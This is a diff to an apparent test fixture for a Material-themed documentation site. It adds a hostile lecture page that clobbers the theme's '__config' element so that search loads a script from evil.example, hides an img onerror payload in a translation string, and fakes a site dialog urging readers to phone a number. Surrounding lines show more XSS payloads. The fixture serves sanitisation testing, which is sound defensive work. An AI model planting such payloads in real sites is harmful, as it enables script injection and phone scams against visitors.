@@ -132,6 +132,49 @@ HOSTILE_BODY = """
     <img src="//evil.example/x.png" onerror="alert(10)">
 """
 
+# A body that borrows the theme's names and looks (#27.4, #27.6): Material reads its configuration from the
+# first element with id="__config" (JSON, no "<" needed: \u003c); a fake dialog in the interface's classes.
+CLOBBER_JSON = ('{"base": "https://evil.example/", "features": ["navigation.instant"], "search": "https://evil.example/w.js", '
+                '"translations": {"search.result.placeholder": "已被篡改\\u003cimg src=x onerror=alert(20)\\u003e", '
+                '"search.result.none": "已被篡改", "search.result.one": "已被篡改", "search.result.other": "已被篡改 #"}, '
+                '"version": null}')
+THEME_BODY = f"""
+正文第一段。
+
+<div id="__config">{CLOBBER_JSON}</div>
+
+<div class="md-dialog md-dialog--active md-header fr-card" hidden role="dialog" data-md-component="dialog" id="fr-content">
+<div class="md-dialog__inner md-typeset">假冒的网站提示：请拨打电话</div>
+</div>
+
+## 目录 {{#__toc}}
+
+## 搜索 {{#__search .md-search data-md-toggle=search}}
+
+<details name="__drawer" class="note"><summary>展开</summary>内容</details>
+
+<span id="&#95;&#95;palette_0" class="fr-badge fr-badge--active">公示中</span>
+
+正文带脚注[^1]。
+
+## 要点
+
+要点内容。
+
+[^1]: 脚注内容。
+"""
+THEME = {
+    "lectures/2023-06-theme-names.md": """---
+title: 正文借用主题名称的讲座
+date: 2023-06-15
+episode: 4
+speaker: 陈立新
+summary: 正文中有与主题同名的 id 和类名。
+tags: [行政复议]
+---
+""" + THEME_BODY,
+}
+
 BODIES = {
     "lectures/2023-05-hostile-body.md": """---
 title: 正文含有脚本的讲座
@@ -145,7 +188,7 @@ tags: [行政复议]
     "media/evil.js": "alert(11)\n",
     "media/saved-page.html": "<script>alert(12)</script>\n",
     "assets/images/evil.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(13)"/>\n',
-}
+} | THEME
 
 
 # Cells a spreadsheet would run as formulas (CSV injection), in a published penalty notice.
